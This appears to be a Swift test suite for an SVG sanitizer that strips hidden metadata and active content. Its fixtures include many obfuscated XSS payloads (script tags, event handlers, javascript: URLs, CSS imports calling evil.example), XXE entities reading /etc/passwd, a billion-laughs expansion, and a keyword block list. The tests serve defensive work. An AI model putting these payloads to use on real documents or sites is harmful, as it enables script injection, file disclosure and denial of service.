// SVG documents: secrets planted wherever a document can hold text that is not drawn, and what runs scripts or loads
// resources in as many spellings. None of it survives a strip, and the drawing is the same.

import FoundationEssentials
import ImageCodecs
import SVGCodec
import TestSupport
import Testing

@Suite struct DocumentStrippingTests {
  private static let secret = "GPS 48.2082 N"

  private static func document(_ body: String, root: String = "", prolog: String = "") -> [UInt8] {
    Array(
      """
      \(prolog)<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" \
      width="20" height="20" \(root)>\(body)<rect width="5" height="5" fill="red"/></svg>
      """.utf8)
  }

  private func contains(_ bytes: [UInt8], _ text: String) -> Bool {
    String(decoding: bytes, as: UTF8.self).contains(text)
  }

  /// A PNG of one colour with its metadata, as a URL.
  private static func picture(secret: String? = secret) throws -> String {
    var metadata = ImageMetadata()
    if let secret { metadata.comments = [secret] }
    let bitmap = try Bitmap(width: 2, height: 2, format: .rgb8, pixels: [UInt8](repeating: 90, count: 12))
    return "data:image/png;base64," + Data(try bitmap.encoded(as: .png, metadata: metadata)).base64EncodedString()
  }

  @Test func strippingCanBeCancelled() throws {
    let error = #expect(throws: CodecError.self) {
      try ImageFile(Self.document("<!-- a -->"), options: DecodingOptions(shouldCancel: { true })).stripped()
    }
    #expect(error?.kind == .cancelled)
  }

  // MARK: Metadata

  private static let places: [(name: String, file: [UInt8])] = [
    ("comment", document("<!-- \(secret) -->")),
    ("comment before the root", document("", prolog: "<!-- \(secret) -->")),
    ("comment after the root", document("") + Array("<!-- \(secret) -->".utf8)),
    ("instruction", document("<?php \(secret)?>")),
    ("instruction before the root", document("", prolog: "<?xml version=\"1.0\"?><?editor \(secret)?>")),
    ("document type", document("", prolog: "<!DOCTYPE svg PUBLIC '\(secret)' 'a.dtd'>")),
    ("comment in the document type", document("", prolog: "<!DOCTYPE svg [<!-- ' \(secret) --> ]>")),
    ("instruction in the document type", document("", prolog: "<!DOCTYPE svg [<?x \(secret)?> ]>")),
    ("unused entity", document("", prolog: "<!DOCTYPE svg [<!ENTITY a '\(secret)'> ]>")),
    ("parameter entity", document("", prolog: "<!DOCTYPE svg [<!ENTITY % a '\(secret)'> %a; ]>")),
    ("element in an entity", document("&a;", prolog: "<!DOCTYPE svg [<!ENTITY a '<metadata>\(secret)</metadata>'> ]>")),
    (
      "metadata written as references",
      document("&a;", prolog: "<!DOCTYPE svg [<!ENTITY a '&#60;metadata>\(secret)&#x3c;/metadata>'> ]>")
    ),
    ("metadata", document("<metadata><a><metadata/>\(secret)</a></metadata>")),
    ("metadata with a prefix", document("<s:metadata xmlns:s='http://www.w3.org/2000/svg'>\(secret)</s:metadata>")),
    ("namespace of an editor", document("<e:a>\(secret)</e:a>", root: "xmlns:e='http://www.inkscape.org/namespaces/'")),
    ("unknown namespace", document("<e:a><rect width='20' height='20'/>\(secret)</e:a>", root: "xmlns:e='urn:e'")),
    ("default namespace", document("<a xmlns='urn:e'>\(secret)</a>")),
    ("attribute of an unknown namespace", document("<g e:a='\(secret)'/>", root: "xmlns:e='urn:e'")),
    ("undeclared prefix", document("<g e:a='\(secret)'/><e:b>\(secret)</e:b>")),
    ("name of a namespace", document("", root: "xmlns:e='urn:\(secret)'")),
    (
      "namespace from an entity",
      document(
        "<e:a>\(secret)</e:a>", root: "xmlns:e='&ns;'", prolog: "<!DOCTYPE svg [<!ENTITY ns 'http://ns.adobe.com/x/'>]>"
      )
    ),
    ("data attribute", document("<g data-place='\(secret)'/>")),
    ("comment of a style sheet", document("<style>a{}/* \(secret) */rect{fill:#00f}</style>")),
    ("comment in a section", document("<style><![CDATA[/* \(secret) */rect{fill:#00f}]]></style>")),
    ("comment in several sections", document("<style>/*<![CDATA[ \(secret) ]]>*/rect{fill:#00f}</style>")),
    ("comment written as references", document("<style>&#47;* \(secret) *&#x2f;rect{fill:#00f}</style>")),
    ("comment that does not end", document("<style>rect{fill:#00f}/* \(secret)</style>")),
    ("element in a style sheet", document("<style>rect{fill:#00f}<a>\(secret)</a></style>")),
    ("comment of a style", document("<g style='opacity:/* \(secret) */.5'/>")),
    ("comment of a property", document("<rect x='9' width='5' height='5' fill='/*\(secret)*/blue'/>")),
    ("line comment of a script", document("<script>a() // \(secret)\n</script>")),
    (
      "comment of a script",
      document("<script><![CDATA[a(/* \(secret) */ '/*', /[/]\"/, `${b /* \(secret) */}`)]]></script>")
    ),
    ("attribute of the declaration", document("", prolog: "<?xml version=\"1.0\" author=\"\(secret)\"?>")),
    (
      "attribute of a link to a style sheet",
      document("", prolog: "<?xml-stylesheet a='\(secret)' type='text/css' href='data:text/css,/*\(secret)*/'?>")
    ),
    (
      "comment of an animated style",
      document("<rect y='9' width='5' height='5'><set attributeName='fill' to='blue/*\(secret)*/'/></rect>")
    ),
    (
      "link in a list of values",
      document("<image><animate attributeName='href' dur='1s' values='data:image/png,\(secret);#a'/></image>")
    ),
    (
      "comment in embedded HTML",
      document("<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'><!--\(secret)--></p></foreignObject>")
    ),
  ]

  @Test(arguments: places.indices) func noPlaceKeepsASecret(_ index: Int) throws {
    let (name, file) = Self.places[index]
    #expect(contains(file, Self.secret), "\(name)")
    for options: ImageFile.StrippingOptions in [[], .activeContent] {
      let stripped = try ImageFile(file).stripped(removing: options)
      #expect(!contains(stripped, Self.secret), "\(name): \(String(decoding: stripped, as: UTF8.self))")
      #expect(!contains(stripped, "DOCTYPE"), "\(name)")
      #expect(try Bitmap(decoding: stripped) == Bitmap(decoding: file), "\(name)")
      #expect(try ImageFile(stripped).stripped(removing: options) == stripped, "\(name)")
    }
  }

  @Test func embeddedPicturesAreStripped() throws {
    let picture = try Self.picture()
    let plain = try Self.picture(secret: nil)
    #expect(picture != plain)
    let inner = Self.document("<!-- \(Self.secret) --><image width='9' height='9' href='\(picture)'/>")
    let nested = "data:image/svg+xml;base64," + Data(inner).base64EncodedString()
    let escaped =
      "data:image/svg+xml,"
      + inner.map { byte in
        let digits = String(byte, radix: 16)
        return "%" + (digits.count == 1 ? "0" : "") + digits
      }.joined()
    for url in [picture, nested, escaped, picture.replacing("image/png", with: "image/png;a=\(Self.secret)")] {
      for body in [
        "<image width='9' height='9' href='\(url)'/>", "<image width='9' height='9' xlink:href=\"\(url)\"/>",
        "<image width='9' height='9' href='  \(url)'/>",
        "<image width='9' height='9' href='\(url.replacing(":", with: "&#58;"))'/>",
        "<filter id='f'><feImage href='\(url)'/></filter><rect x='5' width='9' height='9' filter='url(#f)'/>",
        "<rect width='9' height='9' style='mask-image:url(\"\(url)\")'/>",
        "<rect width='9' height='9' mask='url( \(url) )'/>",
        "<style>rect{mask-image:u\\72l(\(url))}</style>",
      ] where !body.contains("  data:image/svg") {
        let file = Self.document(body)
        for options: ImageFile.StrippingOptions in [[], .activeContent] {
          let stripped = String(decoding: try ImageFile(file).stripped(removing: options), as: UTF8.self)
          #expect(!stripped.contains(Self.secret))
          // The rest is the stripped picture, or a document that embeds it.
          let start = try #require(stripped.firstRange(of: "base64,")).upperBound
          let data = stripped[start...].prefix { $0.isLetter || $0.isNumber || "+/=".contains($0) }
          let embedded = try #require(Data(base64Encoded: String(data)))
          #expect(try ImageFile(Array(embedded)).metadata().isEmpty, "\(body.prefix(60))")
          if url != picture, url.contains("svg") {
            #expect(contains(Array(embedded), plain) && !contains(Array(embedded), picture))
          }
          #expect(try Bitmap(decoding: Array(stripped.utf8)) == Bitmap(decoding: file), "\(body.prefix(60))")
        }
      }
    }
  }

  @Test func embeddedPicturesThatCannotBeStripped() throws {
    // Files other than pictures are not drawn, and removed.
    let text = "data:image/png;base64," + Data(Self.secret.utf8).base64EncodedString()
    let file = Self.document("<image width='9' height='9' href='\(text)'/>")
    #expect(try contains(ImageFile(file).stripped(), "href=\"data:,\""))
    // Drawings in drawings are limited in depth.
    var nested = Self.document("")
    for _ in 0..<40 {
      nested = Self.document("<image href='data:image/svg+xml;base64,\(Data(nested).base64EncodedString())'/>")
      if nested.count > 400_000 { break }
    }
    let limits = DecodingLimits(maximumNestingDepth: 3)
    #expect(throws: CodecError.self) { try ImageFile(nested, options: DecodingOptions(limits: limits)).stripped() }
  }

  /// Files of formats without a rewriter are encoded again.
  @Test func bitmapsBecomePNG() throws {
    let bitmap = try Bitmap(width: 2, height: 2, format: .rgb8, pixels: [UInt8](1...12)).encoded(as: .bmp)
    let url = "data:image/bmp;base64," + Data(bitmap + Array(Self.secret.utf8)).base64EncodedString()
    let file = Self.document("<image width='9' height='9' href='\(url)'/>")
    let stripped = try ImageFile(file).stripped()
    #expect(try Bitmap(decoding: stripped) == Bitmap(decoding: file))
    let start = try #require(String(decoding: stripped, as: UTF8.self).firstRange(of: "base64,")).upperBound
    let text = String(decoding: stripped, as: UTF8.self)[start...].prefix { $0 != "'" && $0 != "\"" }
    let embedded = Array(try #require(Data(base64Encoded: String(text))))
    #expect(!contains(embedded, Self.secret))
    #expect(ImageFormatRegistry.shared.type(of: embedded.span) == .png)
    #expect(
      try Bitmap(decoding: embedded, options: DecodingOptions(pixelFormat: .rgba8))
        == Bitmap(decoding: bitmap, options: DecodingOptions(pixelFormat: .rgba8)))
  }

  /// Pictures that HTML within the document shows, and those that animations set.
  @Test func picturesInOtherAttributesAreStripped() throws {
    let picture = try Self.picture()
    let plain = try Self.picture(secret: nil)
    let html = "xmlns='http://www.w3.org/1999/xhtml'"
    for body in [
      "<foreignObject><img \(html) src='\(picture)'/></foreignObject>",
      "<foreignObject><img \(html) srcset='\(picture) 1x,\n\(picture) 2x'/></foreignObject>",
      "<foreignObject><img \(html) srcset='\(picture), b.png 2x'/></foreignObject>",
      "<foreignObject><video \(html) poster=' \(picture)'/></foreignObject>",
      "<image><set attributeName='href' to='\(picture)'/></image>",
      "<image href='da&#10;ta\(picture.dropFirst(4))'/>",
      "<style>*{--x:\"\(picture)\"}</style>",
    ] {
      let file = Self.document(body)
      let stripped = try ImageFile(file).stripped()
      let coded = String(picture.dropFirst(4))
      #expect(contains(file, coded) && !contains(stripped, coded), "\(body.prefix(60))")
      #expect(contains(stripped, plain), "\(body.prefix(60))")
      #expect(try !contains(ImageFile(file).stripped(removing: .activeContent), picture))
    }
  }

  @Test func whatIsDrawnStays() throws {
    for body in [
      "<style>[data-a]{fill:#00f}</style><rect x='9' width='5' height='5' data-a=''/>",
      "<style>.a/* x */.b{fill:#00f}</style><rect x='9' width='5' height='5' class='a b'/><g class='a'><rect class='b' y='9' width='5' height='5'/></g>",
      "<style>rect{fill:#00f/* x */;content:'/*'}rect{stroke:url(a-b)lime}</style>",
      "<text font-family=\"'a/*b*/'\">a</text>",
      "<title>/* a */ // b</title><desc>a</desc><g id='data-a' class='/*a*/'/>",
    ] {
      let file = Self.document(body)
      for options: ImageFile.StrippingOptions in [[], .activeContent] {
        let stripped = try ImageFile(file).stripped(removing: options)
        #expect(try Bitmap(decoding: stripped) == Bitmap(decoding: file), "\(body)")
      }
      #expect(try contains(ImageFile(file).stripped(), "data-a=\"b\"") == file.isEmpty)
    }
    let kept = Self.document("<title>/* a */ // b</title><g id='data-a' class='/*a*/' aria-label='/* b */'/>")
    #expect(try ImageFile(kept).stripped() == kept)
    let script = "a = b / c; d = '//' + \"/*\" + `//${'}'}//`; e = /[/*]/g; f(/\\//); return /'/.test(g)"
    let scripted = Self.document("<script>\(script)</script>")
    #expect(try ImageFile(scripted).stripped() == scripted)
  }

  // MARK: Active content

  private static let svg = "http://www.w3.org/2000/svg"
  private static let html = "http://www.w3.org/1999/xhtml"

  /// Markup that runs `alert()` or loads from `evil.example` in some browser, present or past.
  private static let attacks: [String] = [
    "<script>alert(1)</script>", "<script href='https://evil.example/a.js'/>",
    "<script xlink:href='data:text/javascript,alert(1)'/>",
    "<SCRIPT>alert(1)</SCRIPT>", "<sCrIpT>alert(1)</sCrIpT>", "<script><![CDATA[alert(1)]]></script>",
    "<x:script xmlns:x='\(svg)'>alert(1)</x:script>", "<script xmlns=''>alert(1)</script>",
    "<script xmlns='\(html)'>alert(1)</script>", "<h:script xmlns:h='\(html)'>alert(1)</h:script>",
    "<h:iframe xmlns:h='\(html)' src='javascript:alert(1)'/>",
    "<iframe xmlns='\(html)' srcdoc='&lt;script>alert(1)&lt;/script>'/>",
    "<h:body xmlns:h='\(html)' onload='alert(1)'/>",
    "<foreignObject><h:img xmlns:h='\(html)' src='x' onerror='alert(1)'/></foreignObject>",
    "<foreignObject><iframe src='https://evil.example/'/></foreignObject>", "<foreignobject>alert(1)</foreignobject>",
    "<g onload='alert(1)'/>", "<g onLoad='alert(1)'/>", "<g ONCLICK='alert(1)'/>",
    "<g x:onload='alert(1)' xmlns:x='\(svg)'/>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>", "<rect onmouseover=\"alert(1)\" onfocus = 'alert(1)'/>",
    "<a href='javascript:alert(1)'><rect/></a>", "<a xlink:href='javascript:alert(1)'/>",
    "<a href='JaVaScRiPt:alert(1)'/>",
    "<a href=' javascript:alert(1)'/>", "<a href='&#1;javascript:alert(1)'/>", "<a href='java&#9;script:alert(1)'/>",
    "<a href='java\tscript:alert(1)'/>", "<a href='java\nscript:alert(1)'/>", "<a href='&#106;avascript:alert(1)'/>",
    "<a href='&#x6a;avascript&#58;alert(1)'/>", "<a href='javascript&colon;alert(1)'/>",
    "<a href='java&Tab;script&colon;alert(1)'/>",
    "<a href='vbscript:alert(1)'/>", "<a href='data:text/html,&lt;script>alert(1)&lt;/script>'/>",
    "<a href='https://evil.example/'/>",
    "<a href='//evil.example/'/>", "<a href='/\\evil.example/'/>",
    "<a y:href='javascript:alert(1)' xmlns:y='http://www.w3.org/1999/xlink'/>",
    "<a xml:base='https://evil.example/' href='#a'/>", "<a ping='https://evil.example/' href='#a'/>",
    "<a id='i'><set attributeName='href' to='javascript:alert(1)'/></a>",
    "<a><animate attributeName='xlink:href' values='javascript:alert(1)'/></a>",
    "<set href='#i' attributeName=' href ' to='javascript:alert(1)'/>",
    "<set attributeName='y:href' to='javascript:alert(1)'/>",
    "<animate attributeName='&#104;ref' to='javascript:alert(1)'/>", "<set attributeName='onclick' to='alert(1)'/>",
    "<set attributeName='style' to='fill:url(https://evil.example/)'/>",
    "<set attributeName='fill' to='url(https://evil.example/#a)'/>",
    "<animate attributeName='mask' values='none;url(https://evil.example/#a)'/>",
    "<handler type='text/javascript'>alert(1)</handler>",
    "<use href='https://evil.example/a.svg#a'/>", "<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#a'/>",
    "<use href='a.svg#a'/>",
    "<image href='https://evil.example/a.png' width='9' height='9'/>", "<image xlink:href='file:///etc/evil.example'/>",
    "<filter id='f'><feImage href='https://evil.example/a.png'/></filter>",
    "<image href='data:text/html,evil.example' width='9' height='9'/>",
    "<linearGradient href='https://evil.example/#a'/>", "<textPath href='https://evil.example/#a'/>",
    "<embed xmlns='\(html)' src='https://evil.example/'/>",
    "<style>@import url(https://evil.example/a.css);rect{stroke:lime}</style>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@\\69mport \"https://evil.example/a.css\";</style>", "<style>@IMPORT/**/url(//evil.example/)</style>",
    "<style>@import url(data:text/css,@import%20url(//evil.example/));</style>",
    "<style><![CDATA[@import '//evil.example/']]></style>",
    "<style>&#64;import '//evil.example/';</style>", "<style>rect{stroke:url(https://evil.example/#a)}</style>",
    "<style>rect{mask:url('https://evil.example/#a')}</style>",
    "<style>rect{mask:URL(https://evil.example/#a)}</style>",
    "<style>rect{mask:u\\72 l(https://evil.example/#a)}</style>",
    "<style>rect{mask:\\75\\72\\6c(https://evil.example/)}</style>",
    "<style>rect{background:image-set('https://evil.example/' 1x)}</style>",
    "<style>*{--a:1x;mask-image:image-set('//evil.example/' var(--a))}</style>",
    "<style>*{mask:src('//evil.example/')}</style>",
    "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style>",
    "<style>rect{-moz-binding:url(//evil.example/a.xml#a)}</style>", "<style>rect{width:expression(alert(1))}</style>",
    "<style>rect{mask:url(\"//evil.example/\n)}</style>", "<style>rect{fill:url(//evil.example/</style>",
    "<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>",
    "<style><a title='&lt;/style>&lt;img src=x onerror=alert(1)>'/></style>",
    "<g style='filter:url(https://evil.example/#a)'/>", "<g style='background:url(javascript:alert(1))'/>",
    "<g fill='url(//evil.example/#a) red'/>",
    "<g filter='url(&#34;//evil.example/#a&#34;)'/>", "<g clip-path='u&#114;l(//evil.example/)'/>",
    "<rect cursor='url(//evil.example/a.cur), auto'/>",
    "<title><script>alert(1)</script></title>", "<desc><h:script xmlns:h='\(html)'>alert(1)</h:script></desc>",
    "<metadata><script>alert(1)</script></metadata>",
    "<annotation-xml xmlns='http://www.w3.org/1998/Math/MathML'><script>alert(1)</script></annotation-xml>",
    "<g data-x='javascript:alert(1)'/>", "<video xmlns='\(html)' src='//evil.example/'/>",
    "<discard href='https://evil.example/'/>",
    "<switch><foreignObject requiredExtensions='a'><script>alert(1)</script></foreignObject><g/></switch>",
    "<ev:listener xmlns:ev='http://www.w3.org/2001/xml-events' handler='https://evil.example/#a'/>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='//evil.example/'/>",
    "<?xml-stylesheet href='//evil.example/a.css'?>",
  ]

  private static let activeWords = [
    "alert", "evil", "script:", "<script", "onload", "onerror", "import", "foreignobject", "iframe",
  ]

  @Test(arguments: attacks) func nothingActiveSurvives(_ body: String) throws {
    let file = Self.document(body)
    let stripped = try ImageFile(file).stripped(removing: .activeContent)
    let text = String(decoding: stripped, as: UTF8.self).lowercased()
    // An escaped script is text.
    for word in Self.activeWords where !text.contains("&lt;/style&gt;") {
      #expect(!text.contains(word), "\(body) became \(text)")
    }
    #expect(!text.contains("<script") && !text.contains("<img") && !text.contains("https:"), "\(text)")
    #expect(try ImageFile(stripped).stripped(removing: .activeContent) == stripped)
    // The document still draws everything that it drew without loading anything.
    #expect(try Bitmap(decoding: stripped) == Bitmap(decoding: file), "\(body) became \(text)")
  }

  @Test(arguments: [
    ("<!DOCTYPE svg [<!ENTITY a '<script>alert(1)</script>'>]>", "&a;"),
    ("<!DOCTYPE svg [<!ENTITY a \"&#60;script>alert(1)&#60;/script>\">]>", "&a;"),
    ("<!DOCTYPE svg [<!ENTITY b 'script'><!ENTITY a '&#60;&b;>alert(1)&#60;/&b;>'>]>", "&a;"),
    ("<!DOCTYPE svg [<!ENTITY a 'javascript:alert(1)'>]>", "<a href='&a;'/>"),
    ("<!DOCTYPE svg [<!ENTITY j 'java'><!ENTITY a '&j;script:alert(1)'>]>", "<a href='&a;'/>"),
    ("<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "<text>&a;</text>"),
    ("<!DOCTYPE svg [<!ENTITY a SYSTEM 'https://evil.example/'>]>", "<g fill='&a;'/>"),
    ("<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.example/'>%p;]>", "<g/>"),
    ("<!DOCTYPE svg [<!ENTITY % p \"<!ENTITY a '<script>alert(1)</script>'>\">%p;]>", "&a;"),
    ("<!DOCTYPE svg SYSTEM 'https://evil.example/a.dtd'>", "<g/>"),
    ("<!DOCTYPE svg [<!ENTITY a '\"'>]>", "<g id=\"&a; onload=&a;alert(1)&a;\"/>"),
    ("<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]>", "<g/>"),
    ("<?xml-stylesheet href='https://evil.example/a.css'?>", "<g/>"),
    ("<?xml version='1.0' encoding='UTF-7'?>", "<g/>"),
  ])
  func nothingActiveSurvivesInTheProlog(_ prolog: String, _ body: String) throws {
    let stripped = try ImageFile(Self.document(body, prolog: prolog)).stripped(removing: .activeContent)
    let text = String(decoding: stripped, as: UTF8.self).replacing("&quot; onload=&quot;alert(1)&quot;", with: "")
    for word in Self.activeWords + ["passwd", "DOCTYPE", "ENTITY", "UTF-7"] {
      #expect(!text.contains(word), "\(prolog)\(body) became \(text)")
    }
    #expect(throws: Never.self) { try Bitmap(decoding: stripped) }
  }

  @Test(arguments: [
    "<g", "<g><", "</g>", "<g></a>", "<g a=1/>", "<g a/>", "<g 'a'='b'/>", "<g <script/>", "</svg><script/>",
    "</svg><svg/>",
    "</svg>text", "<g xmlns:a\"onload=alert(1)='\(svg)'/>", "<![CDATA[", "<!--", "<style>",
  ])
  func documentsThatAreNotWellFormedAreRefused(_ body: String) throws {
    var file = Self.document(body)
    if body.hasPrefix("<![") || body.hasPrefix("<!--") { file = Array(file.prefix(while: { $0 != 0x72 })) }
    let error = #expect(throws: CodecError.self) { try ImageFile(file).stripped(removing: .activeContent) }
    #expect(error?.kind == .malformed)
  }

  @Test func harmlessDocumentsStay() throws {
    let file = Self.document(
      """
      <defs><linearGradient id="a"><stop stop-color="#00f"/></linearGradient><clipPath id="c"><circle r="9"/></clipPath></defs>\
      <style>@media all{.b&gt;rect{stroke:url(#a)}}</style><g class="b" transform="rotate(9)" clip-path="url(#c)">\
      <rect width="9" height="9" fill="url(#a) red" style="stroke-width:2"/><a href="#c"><use xlink:href="#c"/></a>\
      <animate attributeName="x" values="1;2" dur="1s"/></g><title>a &lt; b</title>
      """, root: "class=\"r\"")
    #expect(try ImageFile(file).stripped(removing: .activeContent) == file)
    // Other formats have no active content.
    let picture = try Bitmap(width: 1, height: 1, format: .rgb8, pixels: [1, 2, 3]).encoded(as: .png)
    #expect(try ImageFile(picture).stripped(removing: .activeContent) == picture)
  }

  @Test func everyPrefixIsStrippedOrRefused() throws {
    let file = Self.document(
      "<!-- a --><style>/* b */@import 'a';</style><image href='\(try Self.picture())'/><a href='javascript:c'>d</a>",
      prolog: "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a '<g/>'>]>")
    for count in file.indices {
      let prefix = Array(file.prefix(count))
      _ = try? ImageFile(prefix).stripped()
      #expect(throws: CodecError.self) { try ImageFile(prefix).stripped(removing: .activeContent) }
    }
  }

  @Test func workIsChargedByTheByte() throws {
    let entities = (1..<12).map { "<!ENTITY e\($0) '&e\($0 - 1);&e\($0 - 1);&e\($0 - 1);&e\($0 - 1);'>" }.joined()
    let laughs = Self.document("&e11;", prolog: "<!DOCTYPE svg [<!ENTITY e0 'xxxxxxxxxxxxxxxx'>\(entities)]>")
    #expect(throws: CodecError.self) { try ImageFile(laughs).stripped() }
    let loop = Self.document("&a;", prolog: "<!DOCTYPE svg [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>")
    #expect(throws: CodecError.self) { try ImageFile(loop).stripped() }
    let large = Self.document(String(repeating: "<g a='b'/>", count: 10_000))
    let limits = DecodingLimits(maximumWork: 100_000)
    #expect(throws: CodecError.self) { try ImageFile(large, options: DecodingOptions(limits: limits)).stripped() }
  }
}
